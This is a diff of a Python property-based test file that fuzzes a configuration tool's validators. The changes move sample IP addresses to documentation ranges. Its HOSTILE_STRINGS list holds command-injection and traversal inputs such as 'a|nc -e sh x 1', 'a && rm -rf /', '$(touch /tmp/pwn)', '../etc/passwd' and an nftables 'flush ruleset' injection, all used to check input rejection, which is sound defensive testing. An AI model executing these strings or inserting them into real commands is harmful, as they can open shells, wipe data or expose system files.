@@ -29,8 +29,8 @@ METACHARACTERS = ";|&$()`'\"{}\n\\<> \t\r*?[]!#~%^\x00"
 HOSTILE_STRINGS = [
     "a;reboot", "a|nc -e sh x 1", "a && rm -rf /", "$(touch /tmp/pwn)", "`id`", "a'b", 'a"b', "{a}", "a\nb",
     "a}\n}\nflush ruleset\ntable inet x {", "../../../../srv/x", "../etc/passwd", "/", ".", "..", "a/b", "a~b",
-    "a:b", "", " ", "x" * 64, "x" * 300, "0.0.0.0/0", "::/0", "192.0.2.0/0", "10.0.0.1/8", "192.0.2.0/33",
-    "fe80::1%eth0", "fe80::1%$(id)", "192.0.2.256", "1.2.3.4.5", "host_name", "-lead.example", "a..b",
+    "a:b", "", " ", "x" * 64, "x" * 300, "0.0.0.0/0", "::/0", "192.0.2.0/0", "192.0.2.1/24", "192.0.2.0/33",
+    "fe80::1%eth0", "fe80::1%$(id)", "192.0.2.256", "192.0.2.4.5", "host_name", "-lead.example", "a..b",
     "lab", "vsphere", "postgres", "Site A (Madrid)", "ens192abcdefghij", "eth0\"", "sql;Encrypt=no",
     "caf\u00e9", "\u2028", "\x1b[31m", "-rf", "--help", "%s%n", "${IFS}", "*", "~root",
 ]
@@ -131,7 +131,7 @@ def documents(draw: st.DrawFn) -> dict[str, Any]:
     all_hosts = [h["name"] for s in sites for h in s["hosts"]]
     for name in _unique_names(draw, draw(st.integers(0, 2)), taken):
         kind = draw(st.sampled_from(["postgres", "sqlserver-ag", "sqlserver-fci"]))
-        endpoint = "10.0.0.10,10.1.0.10" if kind == "postgres" else draw(st.sampled_from(["sqlag01.example.net", "10.0.0.50"]))
+        endpoint = "203.0.113.10,203.0.113.74" if kind == "postgres" else draw(st.sampled_from(["sqlag01.example.net", "203.0.113.50"]))
         nodes = [{"name": n, "host": draw(st.sampled_from(all_hosts)), "port": 5432}
                  for n in _unique_names(draw, draw(st.integers(0, 2)), set(taken))]
         entry = {"name": name, "kind": kind, "endpoint": endpoint, "database": "bench", "nodes": nodes,
